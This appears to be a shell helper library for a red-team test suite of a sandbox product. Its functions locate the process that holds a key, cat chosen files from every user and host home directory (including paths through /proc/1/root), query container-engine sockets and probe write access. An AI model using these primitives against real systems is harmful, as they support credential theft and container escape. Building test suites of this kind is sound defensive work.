# Functions for attacks. RT_HERE is the folder of this file, RT_ID the attack's id.
NODE=/opt/sentra/bin/node
[ -x "$NODE" ] || NODE=node
HOOKS=${SENTRA_HOOKS:-/opt/sentra/hooks}
ENGINE=${DOCKER_HOST#unix://}
HOOKS_CONFIG=${SENTRA_HOOKS_CONFIG:-/opt/sentra/hooks/config.yml}
PROXY=${RT_PROXY:-$HTTP_PROXY}
reach() { perl "$RT_HERE/reach.pl" "$@"; }
# The process of the host that holds the key, where it can be seen: the one with this word as an argument of its own.
prey() { for p in /proc/[0-9]*; do tr '\0' '\n' 2>/dev/null < "$p/cmdline" | grep -qx "$RT_PREY" && echo "${p#/proc/}"; done; }
# Homes that may belong to somebody with keys.
homes() { printf '%s\n' "$HOME" /root /home/* /host/root /host/home/* /proc/1/root/root; }
# Prints these files of every home.
in_homes() { homes | while read -r home; do for file; do cat "$home/$file" 2>/dev/null; done; done; }
# Reads, at most so much and never waiting.
peek() { timeout 1 head -c "${2:-65536}" "$1" 2>/dev/null; }
# A request over the broker's socket, as raw bytes; prints the answer.
broker() { reach unix "${RT_SOCKET:-/run/sentra/broker.sock}" "$1"; }
api() { curl -s -m 3 --unix-socket "$1" "http://engine$2"; }
engines() { ls /var/run/docker.sock /run/docker.sock /run/podman/podman.sock /run/containerd/containerd.sock 2>/dev/null; }
# Proof of having opened something for writing, without writing.
opened() { perl -e 'open my $f, "+<", $ARGV[0] or exit; print "reached:$ENV{RT_ID}\n"' "$1"; }
# Sets one of the repository's settings; others may be at it in the same moment.
set_git() { for try in $(seq 30); do git -c safe.directory=* config --local "$@" && return; sleep 0.1; done; }
